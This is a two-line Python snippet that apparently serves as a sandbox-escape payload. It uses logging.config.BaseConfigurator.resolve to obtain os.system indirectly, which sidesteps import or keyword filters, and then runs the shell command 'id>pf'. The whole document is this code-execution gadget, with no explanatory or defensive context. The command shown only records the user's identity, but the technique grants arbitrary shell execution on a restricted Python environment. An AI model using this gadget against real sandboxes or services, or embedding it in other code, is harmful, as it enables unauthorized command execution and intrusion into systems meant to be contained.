import logging.config as c
c.BaseConfigurator({}).resolve("os.system")("id>pf")
